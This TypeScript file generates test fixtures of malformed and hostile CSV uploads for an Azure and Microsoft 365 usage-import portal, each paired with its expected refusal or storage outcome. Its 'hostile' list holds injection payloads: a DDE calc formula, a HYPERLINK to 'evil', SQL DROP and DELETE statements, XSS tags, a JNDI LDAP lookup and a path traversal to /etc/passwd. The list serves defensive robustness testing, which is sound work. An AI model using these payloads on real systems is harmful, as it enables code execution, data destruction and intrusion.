/**
 * A generated corpus of malformed and hostile upload files (issue 11): values the database cannot hold, control
 * characters, mixed line endings, UTF-16, truncated or invalid UTF-8, huge lines, 100,000 columns, archives named
 * .csv, the other export, broken quoting, and hostile but valid text that must be stored exactly. Each file says
 * what must become of it, so a test can hold the portal to it.
 */
import { gzipSync } from "node:zlib";
import { mulberry32 } from "@/lib/generator";

export type Expectation =
  /** Refused whole: every error names its line; `column` when the problem is one cell's. */
  | { outcome: "refused"; message: RegExp; column?: string | null }
  /** Every row stored exactly as the reader reads it. */
  | { outcome: "stored" }
  /** Stored, staged, and waiting for the user's confirmation with a reason. */
  | { outcome: "confirm"; reason: RegExp }
  /** Refused by the upload route itself (before any import exists), with a message. */
  | { outcome: "route"; status: number; message: RegExp };

export interface CorpusFile {
  kind: string;
  name: string;
  source: "azure" | "m365";
  bytes: Buffer;
  expect: Expectation;
}

const AZ = ["CustomerTenantId", "CustomerName", "Month", "ServiceName", "OfferType", "AssociationType", "ACR_USD"];
const M3 = [
  "CustomerTenantId",
  "CustomerName",
  "Month",
  "WorkloadName",
  "AssociationType",
  "PaidAvailableUnits",
  "MonthlyActiveUsers",
];
const guid = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, "0")}`;
const quote = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);

/** A well-formed Azure row (n picks the tenant, month and amount). */
function azureCells(n: number, over: Partial<Record<string, string>> = {}): string[] {
  const base: Record<string, string> = {
    CustomerTenantId: guid(n),
    CustomerName: `Customer ${n}`,
    Month: `2026-${String((n % 9) + 1).padStart(2, "0")}`,
    ServiceName: ["Key Vault", "Microsoft Sentinel", "Azure Firewall"][n % 3]!,
    OfferType: n % 4 === 0 ? "" : "Azure plan",
    AssociationType: n % 5 === 0 ? "CSP" : "PAL",
    ACR_USD: `${(n * 37) % 900}.${String(n % 100).padStart(2, "0")}`,
  };
  return AZ.map((h) => over[h] ?? base[h]!);
}
function m365Cells(n: number, over: Partial<Record<string, string>> = {}): string[] {
  const base: Record<string, string> = {
    CustomerTenantId: guid(n),
    CustomerName: `Customer ${n}`,
    Month: `2026-${String((n % 9) + 1).padStart(2, "0")}`,
    WorkloadName: ["Microsoft Intune", "Microsoft Defender for Endpoint P2", "Microsoft Entra ID P1"][n % 3]!,
    AssociationType: "PAL",
    PaidAvailableUnits: String((n * 7) % 300),
    MonthlyActiveUsers: String((n * 3) % 200),
  };
  return M3.map((h) => over[h] ?? base[h]!);
}
const line = (cells: string[], eol = "\n") => cells.map(quote).join(",") + eol;
/** A file of `rows` good rows with `bad` (raw text of one line, or cells) at 1-based data row `at`. */
function fileWith(
  source: "azure" | "m365",
  rows: number,
  at: number,
  bad: (n: number) => string,
  seed: number,
): string {
  const cells = source === "azure" ? azureCells : m365Cells;
  let text = line(source === "azure" ? AZ : M3);
  for (let i = 1; i <= rows; i++) text += i === at ? bad(seed * 1000 + i) : line(cells(seed * 1000 + i));
  return text;
}

export function hostileCorpus(seed = 11): CorpusFile[] {
  const random = mulberry32(seed);
  const pick = <T>(items: readonly T[]) => items[Math.floor(random() * items.length)]!;
  const files: CorpusFile[] = [];
  const add = (kind: string, source: "azure" | "m365", bytes: Buffer | string, expect: Expectation) =>
    files.push({
      kind,
      name: `${kind}-${files.length + 1}.csv`,
      source,
      bytes: typeof bytes === "string" ? Buffer.from(bytes, "utf8") : bytes,
      expect,
    });
  const refused = (message: RegExp, column?: string | null): Expectation => ({ outcome: "refused", message, column });

  // Amounts past bigint micro-dollars, at varied rows.
  for (let i = 0; i < 25; i++) {
    const value = pick([
      "9223372036854.775808",
      "-9223372036854.775809",
      "10000000000000",
      "99999999999999999999.5",
      `${9223372036855 + i}`,
    ]);
    add(
      "acr-overflow",
      "azure",
      fileWith("azure", 5 + i, 1 + (i % 5), (n) => line(azureCells(n, { ACR_USD: value })), i),
      refused(/out of range/, "ACR_USD"),
    );
  }
  // Monthly active users past a 32-bit integer; paid units past an exact integer.
  for (let i = 0; i < 12; i++) {
    const value = `${2 ** 31 + i * 1_000_003}`;
    add(
      "mau-overflow",
      "m365",
      fileWith("m365", 4 + i, 2 + (i % 3), (n) => line(m365Cells(n, { MonthlyActiveUsers: value })), i),
      refused(/out of range: at most 2147483647/, "MonthlyActiveUsers"),
    );
  }
  for (let i = 0; i < 4; i++)
    add(
      "units-overflow",
      "m365",
      fileWith("m365", 3, 2, (n) => line(m365Cells(n, { PaidAvailableUnits: `${2 ** 53 + 2 + i * 2}` })), i),
      refused(/out of range/, "PaidAvailableUnits"),
    );
  // Control characters in every stored text column.
  const controls = ["\u0000", "\u0001", "\u0007", "\u001b", "\u007f", "\u0085", "\u009b"];
  for (const column of ["CustomerName", "ServiceName", "OfferType", "AssociationType"])
    for (const c of controls)
      add(
        "control-azure",
        "azure",
        fileWith(
          "azure",
          6,
          3,
          (n) => line(azureCells(n, { [column]: `A${c}B`, ...(column === "AssociationType" ? {} : {}) })),
          column.length,
        ),
        refused(/control character/, column),
      );
  for (const column of ["CustomerName", "WorkloadName", "AssociationType"])
    for (const c of controls)
      add(
        "control-m365",
        "m365",
        fileWith("m365", 6, 4, (n) => line(m365Cells(n, { [column]: `Z${c}` })), column.length),
        refused(/control character/, column),
      );
  // Mixed line endings: a CR LF file with LF-only lines at varied places.
  for (let i = 0; i < 15; i++) {
    const rows = 6 + i;
    let text = line(AZ, "\r\n");
    for (let r = 1; r <= rows; r++) text += line(azureCells(500 + r + i * 50), r === 1 + (i % rows) ? "\n" : "\r\n");
    add("mixed-eol", "azure", text, refused(/^mixed line endings/, null));
  }
  // UTF-16, with and without a byte order mark, both byte orders.
  for (let i = 0; i < 8; i++) {
    const text = fileWith(i % 2 ? "m365" : "azure", 3 + i, 0, () => "", i);
    const le = Buffer.from(text, "utf16le");
    const be = Buffer.from(le).swap16();
    const body = [
      le,
      be,
      Buffer.concat([Buffer.from([0xff, 0xfe]), le]),
      Buffer.concat([Buffer.from([0xfe, 0xff]), be]),
    ][i % 4]!;
    add("utf16", i % 2 ? "m365" : "azure", body, refused(/UTF-16/, null));
  }
  // The other export.
  for (let i = 0; i < 6; i++) {
    add(
      "m365-as-azure",
      "azure",
      fileWith("m365", 3 + i, 0, () => "", i),
      refused(/^this looks like a Microsoft 365 licence export/, null),
    );
    add(
      "azure-as-m365",
      "m365",
      fileWith("azure", 3 + i, 0, () => "", i),
      refused(/^this looks like an Azure usage file/, null),
    );
  }
  // Archives and documents named .csv.
  for (let i = 0; i < 5; i++)
    add("gzip", "azure", gzipSync(Buffer.from(fileWith("azure", 20 + i, 0, () => "", i))), refused(/gzip/, null));
  for (let i = 0; i < 3; i++)
    add(
      "zip",
      "azure",
      Buffer.concat([Buffer.from("PK\u0003\u0004\u0014\u0000\u0006\u0000", "latin1"), Buffer.alloc(200 + i, 7)]),
      refused(/ZIP archive/, null),
    );
  add("pdf", "m365", Buffer.from("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<<>>\nendobj\n", "latin1"), refused(/PDF/, null));
  // Truncated multi-byte characters: at the end of the file, and mid-file.
  for (let i = 0; i < 10; i++) {
    const whole = Buffer.from(
      fileWith("azure", 3 + i, 2, (n) => line(azureCells(n, { CustomerName: `Zürich ${"😀".repeat(i + 1)}` })), i),
    );
    // The file stops 1-3 bytes into a 4-byte character.
    add(
      "truncated-utf8-end",
      "azure",
      Buffer.concat([whole, Buffer.from([0xf0, 0x9f, 0x98].slice(0, 1 + (i % 3)))]),
      refused(/UTF-8/, null),
    );
  }
  for (let i = 0; i < 8; i++) {
    const good = Buffer.from(fileWith("m365", 5, 0, () => "", i));
    const cut = good.indexOf(0x0a, good.indexOf(0x0a) + 1) + 5;
    add(
      "truncated-utf8-mid",
      "m365",
      Buffer.concat([good.subarray(0, cut), Buffer.from([0xe2, 0x82]), good.subarray(cut)]),
      refused(/UTF-8/, null),
    );
  }
  // Other invalid UTF-8: Latin-1 text, a lone continuation byte, overlong forms, a surrogate.
  const invalid = [[0xe9], [0x80], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xff]];
  for (let i = 0; i < 12; i++) {
    const text = fileWith("azure", 4, 2, (n) => line(azureCells(n, { CustomerName: "MARK" })), i);
    const at = Buffer.from(text).indexOf("MARK");
    const bytes = Buffer.from(text);
    add(
      "invalid-utf8",
      "azure",
      Buffer.concat([bytes.subarray(0, at), Buffer.from(invalid[i % invalid.length]!), bytes.subarray(at + 4)]),
      refused(/UTF-8/, null),
    );
  }
  // Huge lines: one cell of 100 KB to 1 MB (past the record limit), quoted or not.
  for (let i = 0; i < 6; i++) {
    const big = "x".repeat(100_000 * (1 + i * 2));
    add(
      "huge-line",
      "azure",
      fileWith("azure", 3, 2, (n) => line(azureCells(n, { CustomerName: i % 2 ? `"${big}` : big })), i),
      refused(/longer than 65536 characters/),
    );
  }
  // 100,000 columns in the header, or in a data row.
  const wide = Array.from({ length: 100_000 }, (_, k) => `C${k}`).join(",");
  add("100k-columns-header", "azure", `${wide}\n${line(azureCells(1))}`, refused(/longer than 65536 characters/, null));
  add(
    "100k-columns-row",
    "m365",
    `${line(M3)}${",".repeat(99_999)}\n`,
    refused(/wrong number of fields: expected 7 \(as in the header\), found 100000/, null),
  );
  add(
    "100k-columns-short",
    "azure",
    `${line(AZ)}${Array(100_000).fill("1").join(",").slice(0, 60_000)}\n`,
    refused(/wrong number of fields/, null),
  );
  // Broken quoting.
  const quoting = [
    (n: number) => `${guid(n)},"Unclosed,2026-01,Key Vault,,PAL,1\n`,
    (n: number) => `${guid(n)},Quote"inside,2026-01,Key Vault,,PAL,1\n`,
    (n: number) => `${guid(n)},"Closed"after,2026-01,Key Vault,,PAL,1\n`,
  ];
  for (let i = 0; i < 15; i++)
    add(
      "bad-quotes",
      "azure",
      fileWith("azure", 4 + (i % 4), 1 + (i % 4), quoting[i % 3]!, i),
      refused(/malformed/, "CustomerName"),
    );
  // Values of the wrong shape.
  const shapes: [string, string, RegExp][] = [
    ["CustomerTenantId", "{" + guid(1) + "}", /not a GUID/],
    ["CustomerTenantId", "", /empty: expected a tenant GUID/],
    ["CustomerTenantId", "not-a-guid", /not a GUID/],
    ["Month", "2026-13", /not a month/],
    ["Month", "2/30/2026", /not a month/],
    ["Month", "", /not a month/],
    ["ACR_USD", "1e5", /not a decimal amount/],
    ["ACR_USD", "12,5", /not a decimal amount/],
    ["ACR_USD", "1.1234567", /not a decimal amount/],
    ["ACR_USD", "+12", /not a decimal amount/],
    ["ACR_USD", "NaN", /not a decimal amount/],
    ["ACR_USD", "", /not a decimal amount/],
  ];
  for (let i = 0; i < 36; i++) {
    const [column, value, message] = shapes[i % shapes.length]!;
    add(
      "bad-value",
      "azure",
      fileWith("azure", 5, 1 + (i % 5), (n) => line(azureCells(n, { [column]: value })), i),
      refused(message, column),
    );
  }
  for (let i = 0; i < 8; i++)
    add(
      "bad-count",
      "m365",
      fileWith(
        "m365",
        5,
        2,
        (n) => line(m365Cells(n, { PaidAvailableUnits: pick(["-1", "1.5", "ten", " ", "0x10"]) })),
        i,
      ),
      refused(/not a whole number/, "PaidAvailableUnits"),
    );
  // Wrong field counts.
  for (let i = 0; i < 14; i++)
    add(
      "field-count",
      "azure",
      fileWith("azure", 5, 1 + (i % 5), (n) => line(azureCells(n).slice(0, 3 + (i % 3))), i),
      refused(/wrong number of fields/, null),
    );
  // Missing required columns.
  for (let i = 0; i < 7; i++) {
    const drop = AZ[[0, 2, 3, 5, 6, 0, 6][i]!]!;
    const keep = AZ.filter((h) => h !== drop);
    const text = line(keep) + line(azureCells(1).filter((_, k) => AZ[k] !== drop));
    add("missing-column", "azure", text, refused(/required column is missing/, drop));
  }
  // Empty and nearly empty files.
  add("empty-lines", "azure", "\n\n\r\n  \n", refused(/empty/, null));
  add("bom-only", "azure", Buffer.from([0xef, 0xbb, 0xbf]), refused(/empty/, null));
  add("header-only", "m365", line(M3), refused(/no data rows/, null));
  add("header-only-crlf", "azure", line(AZ, "\r\n"), refused(/no data rows/, null));
  // A month far ahead: stored (staged) and asking first, with the reason.
  for (let i = 0; i < 6; i++)
    add(
      "future-month",
      "azure",
      fileWith(
        "azure",
        6,
        3 + (i % 3),
        (n) => line(azureCells(n, { Month: i % 2 ? `5/1/${2099 - i}` : `${2090 + i}-05` })),
        i,
      ),
      { outcome: "confirm", reason: /more than a month after this month/ },
    );
  // Hostile but valid text: stored exactly.
  const hostile = [
    "=cmd|'/C calc'!A0",
    "+SUM(1;2)",
    '@HYPERLINK("http://evil")',
    "'; DROP TABLE azure_usage; --",
    "Robert'); DELETE FROM users;--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\\N",
    "back\\slash\\t\\n",
    "Tab\tinside",
    "Line\nbreak",
    "CR\r\nLF",
    '"Quoted" name',
    "Comma, Inc.",
    "Zürich AG",
    "株式会社テスト",
    "שלום עולם",
    "مرحبا",
    "😀 Emoji Ltd 🚀",
    "Ｆｕｌｌｗｉｄｔｈ",
    "Zero\u200bwidth",
    "Right\u202eto-left override",
    "Trailing spaces   ",
    "x".repeat(4000),
    "ﬃ ligature",
    "e\u0301 combining",
    "%s%s%n",
    "${jndi:ldap://x}",
    "../../etc/passwd",
    "NULL",
  ];
  for (let i = 0; i < hostile.length; i++)
    add(
      "hostile-valid",
      i % 3 === 2 ? "m365" : "azure",
      fileWith(
        i % 3 === 2 ? "m365" : "azure",
        4,
        2,
        (n) => line((i % 3 === 2 ? m365Cells : azureCells)(n, { CustomerName: hostile[i]! })),
        i,
      ),
      { outcome: "stored" },
    );
  // Valid shapes at the edges: stored exactly.
  const edges = ["0", "-0.000001", "-9223372036854.775808", "9223372036854.775807", "0.000001", "000123.450000"];
  for (let i = 0; i < edges.length; i++)
    add(
      "edge-amount",
      "azure",
      fileWith("azure", 3, 2, (n) => line(azureCells(n, { ACR_USD: edges[i]! })), i),
      { outcome: "stored" },
    );
  add(
    "edge-mau",
    "m365",
    fileWith("m365", 3, 2, (n) => line(m365Cells(n, { MonthlyActiveUsers: "2147483647" })), 1),
    { outcome: "stored" },
  );
  add(
    "edge-mau-empty",
    "m365",
    fileWith("m365", 3, 2, (n) => line(m365Cells(n, { MonthlyActiveUsers: "" })), 2),
    { outcome: "stored" },
  );
  add(
    "bom-crlf",
    "azure",
    Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(fileWith("azure", 5, 0, () => "", 3).replace(/\n/g, "\r\n")),
    ]),
    { outcome: "stored" },
  );
  add(
    "us-dates",
    "azure",
    fileWith("azure", 4, 2, (n) => line(azureCells(n, { Month: "10/31/2026 11:59:59 PM" })), 4),
    { outcome: "stored" },
  );
  add("no-final-newline", "m365", fileWith("m365", 4, 0, () => "", 5).slice(0, -1), { outcome: "stored" });
  // Routes refuse before anything is stored.
  files.push({
    kind: "long-name",
    name: `${"n".repeat(252)}.csv`,
    source: "azure",
    bytes: Buffer.from(fileWith("azure", 2, 0, () => "", 1)),
    expect: { outcome: "route", status: 400, message: /longer than 255 characters/ },
  });
  files.push({
    kind: "empty-body",
    name: "empty.csv",
    source: "azure",
    bytes: Buffer.alloc(0),
    expect: { outcome: "route", status: 400, message: /empty/ },
  });
  return files;
}
